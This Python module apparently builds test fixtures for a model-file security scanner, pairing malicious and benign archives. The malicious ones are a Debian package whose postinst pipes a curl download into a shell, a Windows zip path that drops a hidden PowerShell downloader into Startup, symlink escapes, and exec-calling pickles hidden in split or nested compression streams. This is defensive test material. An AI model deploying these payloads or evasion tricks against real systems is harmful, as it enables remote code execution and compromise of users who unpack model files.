"""Archives: links and names that leave the folder, readers that disagree, split streams, sparse members, a Debian package."""
import bz2
import gzip
import io
import lzma
import tarfile
import zipfile

import py7zr
import zstandard

from assembly import call, glob, model, pickle, seq
from pair import CODE, SHELL
from .craft import FIXED, floats, safetensors, tarred, zipped

WEIGHTS = safetensors({"w": ("F32", (8, 8), floats(64))})
STEAL = "curl -fsS http://203.0.113.61/i.sh | sh"


def bad(protocol=4):
    return pickle(model(call(glob("builtins", "exec"), CODE)), protocol)


def good(protocol=4):
    return pickle(model(call(glob("collections", "OrderedDict"))), protocol)


def sparse(call_):
    """A PAX 1.0 sparse member: the hole lies in a bytes constant, so the stored bytes are another pickle than the member."""
    whole = pickle(model(seq(bytes(65536), call_)))
    at = whole.index(bytes(65536))
    parts = [(0, at), (at + 65536, len(whole) - at - 65536)]
    plan = f"{len(parts) + 1}\n" + "".join(f"{o}\n{n}\n" for o, n in parts) + f"{len(whole)}\n0\n"
    data = plan.encode().ljust(512, b"\0") + b"".join(whole[o : o + n] for o, n in parts)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as t:
        info = tarfile.TarInfo("GNUSparseFile.0/model.pkl")
        info.size, info.mtime = len(data), 1714979290
        info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": "model.pkl", "GNU.sparse.realsize": str(len(whole))}
        t.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def seven(name, data):
    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as z:
        z.writestr(data, name)
        z.writestr(WEIGHTS, "weights/base.safetensors")
    return buffer.getvalue()


def deb(script):
    member = lambda name, data: name.encode().ljust(16) + b"1714979290  0     0     100644  " + str(len(data)).encode().ljust(10) + b"`\n" + data + b"\n" * (len(data) % 2)  # noqa: E731
    control = "Package: tiny-vision-weights\nVersion: 1.2.0\nArchitecture: all\nMaintainer: Example <models@example.org>\nDescription: Weights of a small vision model\n"
    return b"!<arch>\n" + member("debian-binary", b"2.0\n") + member("control.tar.xz", lzma.compress(tarred({"./control": control, "./postinst": script}))) + member("data.tar.gz", gzip.compress(tarred({"./usr/share/tiny-vision/base.safetensors": WEIGHTS}), mtime=0))


def backslashes(name, body):
    """A zip made on Windows: its separators are backslashes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for path, data in (("model.safetensors", WEIGHTS), ("n" * len(name), body)):
            info = zipfile.ZipInfo(path, FIXED)
            info.create_system = 0
            z.writestr(info, data)
    return buffer.getvalue().replace(b"n" * len(name), name.encode())


def add(s):
    links = lambda b, name: tarred([("model.safetensors", WEIGHTS), ("a", ("sym", ".")), ("v1", ("dir",)), ("b", ("sym", b)), (name, "cat\ndog\n")])  # noqa: E731
    s.add("archives", "two_links_make_a_step_up", links("a/..", "b/labels.txt"), links("a/v1", "b/labels.txt"), "10/unpack", "model.tar",
          why="a is the folder itself and b is a/.., which looks neutral and leads one step out: the last member is written outside by readers that follow links")
    startup = "..\\..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\update.bat"
    s.add("archives", "backslash_path_to_autostart", backslashes(startup, "@powershell -w hidden -c \"iwr http://203.0.113.61/i.ps1 | iex\"\r\n"), backslashes("assets\\labels\\english.txt", "cat\r\ndog\r\n"), None, "model.zip",
          why="Windows extractors take the backslashes for separators: a batch file in everybody's autostart that runs a download. Not run")
    front = lambda data: zipped({"model.pkl": data}) + zipped({"model.safetensors": WEIGHTS, "README.md": "# tiny\n"})  # noqa: E731
    s.add("archives", "zip_in_front_of_a_zip", front(bad()), front(good()), "10/streamzip", "model.zip",
          why="readers by the directory see the second archive only, streaming readers unpack the first: its pickle calls exec")
    split = lambda data, pack: pack(data[:40]) + pack(data[40:57]) + pack(data[57:])  # noqa: E731
    s.add("archives", "pickle_across_gzip_members", split(bad(), lambda b: gzip.compress(b, mtime=0)), split(good(), lambda b: gzip.compress(b, mtime=0)), "10/opened:gzip", "model.pkl.gz",
          why="three gzip members, no one of which is a pickle; gzip.open joins them and the pickle calls exec")
    streams = lambda data: seven("model.pkl.xz", lzma.compress(data[:44]) + lzma.compress(data[44:], check=lzma.CHECK_CRC32))  # noqa: E731
    s.add("archives", "two_xz_streams_in_7z", streams(bad()), streams(good()), "10/seven", "model.7z",
          why="a 7z member of two xz streams, neither of which is a pickle, joined by lzma.open to a pickle that calls exec")
    s.add("archives", "sparse_member", sparse(call(glob("posix", "system"), SHELL)), sparse(call(glob("collections", "Counter"), "aab")), "10/tarred", "model.tar",
          why="stored bytes and member differ by the hole of a sparse file: as stored the call lies inside a bytes constant, as read it runs os.system")
    inner = lambda data: zstandard.ZstdCompressor(level=3).compress(tarred({"export/README": "weights\n", "export/bundle.zip": zipped({"part-0001": bz2.compress(data), "labels.txt": "cat\n"}, zipfile.ZIP_LZMA)}))  # noqa: E731
    s.add("archives", "lzma_zip_in_tar_in_zstd", inner(bad()), inner(good()), "10/nested", "model.tar.zst",
          why="a bzip2 pickle without a telling name in a zip of method 14 in a tar in zstd; it calls exec")
    s.add("archives", "debian_package_of_weights", deb(f"#!/bin/sh\nset -e\n{STEAL}\n"), deb("#!/bin/sh\nset -e\n[ \"$1\" = configure ] && chmod 0644 /usr/share/tiny-vision/base.safetensors\nexit 0\n"), None, "tiny-vision-weights_1.2.0_all.deb",
          why="dpkg runs the package's postinst as root; it pipes a download into a shell. Not run")
